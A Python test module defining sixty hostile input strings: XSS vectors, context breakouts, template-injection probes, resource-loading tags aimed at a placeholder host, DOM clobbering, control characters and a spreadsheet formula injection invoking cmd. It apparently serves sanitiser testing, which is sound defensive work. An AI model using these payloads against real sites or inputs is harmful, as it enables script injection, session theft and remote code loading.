"""Sixty hostile texts that stand in records as names, ids and titles: each tries to run something or to call somebody.

What runs sets ``pwned`` on the window; what calls asks the address that stands for ``§``.
"""

RUN = "window.pwned=1;alert(1)"
PAYLOADS = (
    # scripts and event handlers
    f"<script>{RUN}</script>",
    "<script src=//§/s1></script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<img src=x onerror={RUN!r}>",
    "<img src=http://§/i1 srcset='http://§/i2 2x'>",
    f"<body onload={RUN!r}>",
    f"<details open ontoggle={RUN!r}>x</details>",
    f"<input autofocus onfocus={RUN!r}>",
    f"\" autofocus onfocus=\"{RUN}\" x=\"",
    f"' onmouseover='{RUN}' style='position:fixed;inset:0' x='",
    f"` onclick=`{RUN}`",
    f"<svg onload={RUN!r}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN!r} attributeName=x dur=1s>",
    "<svg><image href=http://§/v1 /><use href=http://§/v2#x /></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN!r}>",
    f"<math href=\"javascript:{RUN}\">x</math>",
    # ways out of where a text stands
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</select></option><img src=x onerror={RUN!r}>",
    f"</script><script>{RUN}</script>",
    f"\"}}]}};{RUN};//</script><script>{RUN}</script>",
    f"\\u003c/script\\u003e\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\u2028{RUN}\u2029",
    f"<!--><script>{RUN}</script>-->",
    f"--!><img src=x onerror={RUN!r}>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"]]><script>{RUN}</script>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN!r}>\">",
    f"&lt;script&gt;{RUN}&lt;/script&gt;&#60;img src=x onerror={RUN!r}&#62;",
    f"&NewLine;java&Tab;script&colon;{RUN}",
    # templates
    "{{ 7 * 7 }}{% raw %}{{ self.__init__.__globals__ }}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"<x v-html=\"'<img src=x onerror={RUN}>'\">{{{{_c.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}<%= {RUN} %>#{{{RUN}}}",
    "{n}{0.__class__}{since.__class__.__mro__}%(x)s%n",
    # addresses
    f"javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"<a href=\"javascript:{RUN}\" id=main>x</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== ping=http://§/p1>x</a>",
    "//§/relative",
    "http://§/absolute \\\\§\\share",
    f"<form action=http://§/f1><button autofocus>x</button></form><isindex type=image src=http://§/f2 onerror={RUN!r}>",
    # what loads, moves or frames
    "<link rel=stylesheet href=http://§/l1><link rel=prefetch href=//§/l2><link rel=dns-prefetch href=//§>",
    "<style>@import 'http://§/c1'; body{background:url(http://§/c2)}</style>",
    "<p style=\"background:url('http://§/c3');list-style-image:url(//§/c4)\">x</p>",
    "\"};body{background:url(http://§/c5)}/*",
    "<meta http-equiv=refresh content='0;url=http://§/m1'>",
    "<base href=http://§/b1/>",
    f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe><iframe src=http://§/r1></iframe>",
    "<object data=http://§/o1></object><embed src=http://§/o2><video src=http://§/o3 poster=http://§/o4 autoplay>",
    "<img id=picture name=getElementById><form id=found name=body><input name=children>",
    # letters
    "\u202e\u2066evil\u2069\u202c \u200f\u200b\ufeff\ufffe",
    "nul \x00 bell \x07 escape \x1b[31m back \x08 \x7f \x85",
    "lone \ud800 and \udfff surrogates",
    "=HYPERLINK(\"http://§/h1\") +1-1 @SUM(1) \t|cmd' /C calc'!A0",
    "[x](javascript:alert(1)) ![x](http://§/k1) *b* _i_ `c`",
    "\"'`´‘’“”«»‚„<>&;" + "ﷺ" * 40 + "A" * 4000,
)  # fmt: skip


def hostile(address: str) -> list[str]:
    """The texts with what they call; ``address`` is a host with its port."""
    return [one.replace("§", address) for one in PAYLOADS]
